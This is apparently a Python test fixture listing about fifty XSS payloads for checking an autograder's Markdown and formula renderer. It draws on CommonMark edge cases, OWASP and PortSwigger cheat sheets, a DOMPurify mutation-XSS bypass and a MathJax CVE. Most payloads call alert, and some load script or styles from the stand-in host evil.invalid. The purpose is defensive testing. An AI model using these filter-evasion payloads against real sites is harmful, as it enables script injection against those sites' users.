"""Written answers that try to run script, or leave an active link, wherever the answer is shown.

Each :class:`Payload` is what a student types into a written-answer (Markdown) cell, with where it
comes from. Two families:

* **CommonMark edge cases**: places where a renderer that guesses (a regular expression, an older
  Markdown dialect) reads the text differently from the CommonMark spec, so that text meant as code is
  rendered as HTML, or the other way round. "spec N.N" is a section of the CommonMark Spec 0.31.2
  (https://spec.commonmark.org/0.31.2/); "issue 20" is a way in verified on the kit before
  the renderer of :mod:`autograder.feedback.markdown`.
* **Public XSS corpora**: OWASP's XSS Filter Evasion Cheat Sheet
  (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html), PortSwigger's
  Cross-site scripting cheat sheet (https://portswigger.net/web-security/cross-site-scripting/cheat-sheet),
  the HTML5 Security Cheatsheet (https://html5sec.org), Michał Bentkowski's DOMPurify 2.0.0 bypass
  (mutation XSS through MathML, https://research.securitum.com/dompurify-bypass-using-mxss/) and
  MathJax's advisories (CVE-2018-1999024, ``\\unicode``).

Every payload that would run script calls ``alert`` or sets ``window.__pwned``; every one that would
fetch something points at ``evil.invalid`` (a name that never resolves), so a browser test sees either.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Payload:
    name: str
    text: str
    source: str


def _p(name: str, text: str, source: str) -> Payload:
    return Payload(name, text, source)


PAYLOADS = (
    # ---------------------------------------------------------------- CommonMark: fences and code
    _p("fence-close-indented", "```\nsafe code\n   ```\n<script>alert('fence-close-indented')</script>",
       "issue 20 (closing fence indented up to 3 spaces); spec 4.5 Fenced code blocks"),
    _p("fence-close-indented-4", "```\nstill code\n    ```\n<script>alert(1)</script>\n```",
       "spec 4.5 Fenced code blocks (4 spaces: not a closing fence)"),
    _p("backtick-info-backtick", "``` a`b\n<script>alert('info')</script>\n```\n<img src=x onerror=alert(2)>",
       "issue 20 (an info string holding a backtick is not a fence); spec 4.5 Fenced code blocks"),
    _p("bare-cr", "```\r<b>code</b>\r```\r<script>alert('cr')</script>\r<img src=x onerror=alert(3)>",
       "issue 20 (a bare \\r ends a line); spec 2.1 Characters and lines"),
    _p("crlf", "```\r\n<b>code</b>\r\n```\r\n<svg onload=alert('crlf')>\r\n[x](javascript:alert(4))",
       "spec 2.1 Characters and lines (\\r\\n line endings)"),
    _p("fence-flip-chain", "``` x`y\n```\n<script>alert('flip1')</script>\n```\n<img src=x onerror=alert('flip2')>\n"
       "```\n<svg onload=alert('flip3')>\n```",
       "issue 20 (once one pair is read differently every later fence flips)"),
    _p("tilde-fence-mixed", "~~~~\n~~~\n<script>alert(1)</script>\n```\n~~~~\n<img src=x onerror=alert(5)>",
       "spec 4.5 Fenced code blocks (the closing fence is of the same kind and at least as long)"),
    _p("fence-in-list", "- item\n  ```\n  code\n```\n<script>alert(6)</script>",
       "spec 5.2 List items (a fence inside a list item ends with the item)"),
    _p("indented-code", "    <script>alert(7)</script>\n\nafter",
       "spec 4.4 Indented code blocks"),
    _p("tabs", "\t<script>alert(8)</script>\n\n  \t<svg onload=alert(9)>\n\n-\t<img src=x onerror=alert(10)>",
       "spec 2.2 Tabs (tabs as indentation)"),
    _p("unclosed-fence", "```\n<script>alert(11)</script>\n\n[x](javascript:alert(12))",
       "spec 4.5 Fenced code blocks (an unclosed fence runs to the end of the document)"),
    _p("code-span-backticks", "`` `<script>alert(13)</script>` `` and ``<img src=x onerror=alert(14)>`",
       "spec 6.1 Code spans (backtick runs, unmatched runs)"),
    # ---------------------------------------------------------------- CommonMark: HTML blocks 1-7
    _p("html-block-1", "<script>\nalert('type1')\n</script>\n<pre><style>*{x:expression(alert(15))}</style></pre>"
       "\n<textarea></textarea><script>alert(16)</script>",
       "spec 4.6 HTML blocks, type 1 (script, pre, style, textarea)"),
    _p("html-block-2-comment", "<!-- a comment -->\n<img src=x onerror=alert('comment')>\n\n<!--\n-->"
       "<script>alert(17)</script>",
       "spec 4.6 HTML blocks, type 2 (comments)"),
    _p("html-block-3-pi", "<?php echo 1; ?>\n<script>alert('pi')</script>", "spec 4.6 HTML blocks, type 3 (processing instruction)"),
    _p("html-block-4-decl", "<!DOCTYPE html>\n<script>alert('decl')</script>", "spec 4.6 HTML blocks, type 4 (declaration)"),
    _p("html-block-5-cdata", "<![CDATA[\nx\n]]>\n<script>alert('cdata')</script>", "spec 4.6 HTML blocks, type 5 (CDATA)"),
    _p("html-block-6", "<div onmouseover=\"alert('type6')\">\n*emphasis* <img src=x onerror=alert(18)>\n</div>"
       "\n\n<table><tr><td onclick=alert(19)>cell</td></tr></table>",
       "spec 4.6 HTML blocks, type 6 (block-level tags)"),
    _p("html-block-7", "<a href=\"javascript:alert('type7')\">link</a>\n<x-custom onclick=alert(20)>x</x-custom>",
       "spec 4.6 HTML blocks, type 7 (any complete open or closing tag)"),
    _p("inline-html", "text <span onclick=alert(21)>x</span> <a href='javascript:alert(22)'>a</a> "
       "<img src=x onerror=alert(23)>", "spec 6.6 Raw HTML"),
    # ---------------------------------------------------------------- CommonMark: links and definitions
    _p("link-javascript", "[click](javascript:alert('link')) [also]( JaVa\tScRiPt:alert(24)) "
       "[up](JAVASCRIPT:alert(25))", "OWASP (case, whitespace); spec 6.3 Links (link destinations)"),
    _p("link-escaped-colon", "[a](javascript\\:alert('escaped'))\n\n[r]: javascript\\:alert(26)\n\n[r]",
       "issue 20 (javascript\\: links and link definitions stayed live); spec 2.4 Backslash escapes (in URLs)"),
    _p("link-definition", "[x]: javascript:alert('def')\n[y]: <vbscript:msgbox(1)> \"title\"\n\n[x] [y]\n\n"
       "[z]:\n  data:text/html,<script>alert(27)</script>\n\n[z]",
       "spec 4.7 Link reference definitions"),
    _p("link-entities", "[a](&#106;avascript:alert(28)) [b](jav&#x09;ascript:alert(29)) "
       "[c](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(30)) "
       "[d](javascript&colon;alert(31)) [e](java&NewLine;script:alert(32))",
       "OWASP (decimal, hex and named character references); spec 2.5 Entity and numeric character references"),
    _p("link-newline-tab", "[a](<java\nscript:alert(33)>) [b](<java\tscript:alert(34)>) "
       "[c](<javascript:alert(35)>)", "OWASP (embedded tab, newline); spec 6.3 Links (pointy-bracket destinations)"),
    _p("autolinks", "<javascript:alert('auto')> <JAVASCRIPT:alert(36)> <vbscript:msgbox(37)> "
       "<data:text/html;base64,PHNjcmlwdD5hbGVydCgzOCk8L3NjcmlwdD4=> <file:///etc/passwd>",
       "spec 6.5 Autolinks (any scheme)"),
    _p("data-and-vbscript", "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgzOSk8L3NjcmlwdD4=) "
       "[b](vbscript:msgbox(40)) [c](data:image/svg+xml,<svg/onload=alert(41)>) "
       "[d](%6A%61%76%61%73%63%72%69%70%74:alert(42))", "OWASP (data:, vbscript:, percent-encoded scheme)"),
    _p("images", "![x](javascript:alert(43)) ![y\" onerror=\"alert(44)](x.png) ![z](http://evil.invalid/track.png)"
       " ![w](data:image/png;base64,iVBORw0KGgo=)", "spec 6.4 Images; OWASP (IMG src)"),
    _p("nul-and-controls", "<scr\x00ipt>alert(45)</script> [a](java\x00script:alert(46)) "
       "[b](\x01javascript:alert(47)) <img src=x\x00 onerror=alert(48)>",
       "spec 2.3 Insecure characters (NUL becomes U+FFFD); OWASP (null byte)"),
    _p("backslash-escapes", "\\<script>alert(49)\\</script> \\[x\\](javascript:alert(50)) &lt;img src=x "
       "onerror=alert(51)&gt;", "spec 2.4 Backslash escapes; spec 2.5 Entity and numeric character references"),
    # ---------------------------------------------------------------- public XSS corpora
    _p("script", "<script>window.__pwned = 'script'</script><SCRIPT SRC=http://evil.invalid/x.js></SCRIPT>",
       "OWASP (basic XSS test)"),
    _p("img-onerror", "<img src=x onerror=\"window.__pwned='img'\"><IMG SRC=\"jav&#x0D;ascript:alert(52);\">",
       "OWASP (IMG onerror, embedded carriage return)"),
    _p("svg-onload", "<svg onload=alert(53)><svg><script>alert(54)</script></svg>"
       "<svg><a xlink:href=\"javascript:alert(55)\"><text x=20 y=20>x</text></a></svg>",
       "PortSwigger (svg onload, svg script, xlink:href)"),
    _p("iframe-srcdoc", "<iframe srcdoc=\"&lt;script&gt;parent.__pwned='srcdoc'&lt;/script&gt;\"></iframe>"
       "<iframe src=javascript:alert(56)></iframe>", "PortSwigger (iframe srcdoc, iframe src)"),
    _p("form-action", "<form action=javascript:alert(57)><button>go</button></form>"
       "<button formaction=javascript:alert(58)>x</button><isindex action=javascript:alert(59)>",
       "html5sec.org (form action, formaction, isindex)"),
    _p("meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(60)\">"
       "<meta http-equiv=\"refresh\" content=\"0;url=http://evil.invalid/\">", "OWASP (META refresh)"),
    _p("style-expression", "<div style=\"width: expression(alert(61)); background:url(http://evil.invalid/x)\">s</div>"
       "<style>@import 'http://evil.invalid/x.css';</style><link rel=stylesheet href=http://evil.invalid/y.css>",
       "OWASP (STYLE expression, @import, link stylesheet)"),
    _p("base-href", "<base href=\"javascript:alert(62)//\"><a href=\"/relative\">rel</a>", "OWASP (BASE tag)"),
    _p("math-mglyph-mxss", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x "
       "onerror=alert(63)&gt;\">", "Bentkowski, DOMPurify 2.0.0 bypass (MathML namespace confusion)"),
    _p("math-href", "<math><mi xlink:href=\"javascript:alert(64)\" href=\"javascript:alert(65)\">x</mi>"
       "<maction actiontype=statusline xlink:href=javascript:alert(66)>y</maction></math>",
       "html5sec.org (MathML links)"),
    _p("template-noscript", "<template><script>alert(67)</script></template>"
       "<noscript><p title=\"</noscript><img src=x onerror=alert(68)>\"></noscript>",
       "PortSwigger, html5sec.org (template content, noscript parsing differences)"),
    _p("select-style-mxss", "<select><style></select><img src=x onerror=alert(69)></style>"
       "<svg></p><style><a id=\"</style><img src=1 onerror=alert(70)>\">", "DOMPurify bypasses (mXSS)"),
    _p("object-embed", "<object data=\"javascript:alert(71)\"></object><embed src=javascript:alert(72)>"
       "<details open ontoggle=alert(73)>", "OWASP, PortSwigger (object, embed, ontoggle)"),
    _p("a-href-colon-entity", "<a href=javascript&colon;alert(74)>x</a><a href=\"jAvAsCrIpT&#58;alert(75)\">y</a>",
       "PortSwigger (<a href=javascript&colon;...>)"),
    _p("event-handlers", "<input autofocus onfocus=alert(76)><body onload=alert(77)>"
       "<video><source onerror=alert(78)></video><marquee onstart=alert(79)>m</marquee>",
       "PortSwigger (event handlers that fire without a click)"),
    # ---------------------------------------------------------------- formulas
    _p("mathjax-href", "$\\href{javascript:alert(80)}{x}$ and $$\\style{background:url(javascript:alert(81))}{y}$$",
       "MathJax TeX extensions (\\href, \\style)"),
    _p("mathjax-unicode", "$\\unicode{<img src=x onerror=alert(82)>}$", "CVE-2018-1999024 (MathJax \\unicode)"),
    _p("latex2mathml-text", "$\\text{<img src=x onerror=alert(83)>}$ $$\\text{</math><script>alert(84)</script>}$$",
       "latex2mathml copies \\text{} into <mtext> unescaped"),
    _p("math-breaks-out", "$x$<script>alert(85)</script>$y$ and $$\n</math><svg onload=alert(86)>\n$$",
       "formula delimiters around markup"),
)

assert len({p.name for p in PAYLOADS}) == len(PAYLOADS)

#: What a payload's own text must never make a page do (checked on the rendered HTML and in the browser).
SENTINEL = "__pwned"
EVIL_HOST = "evil.invalid"
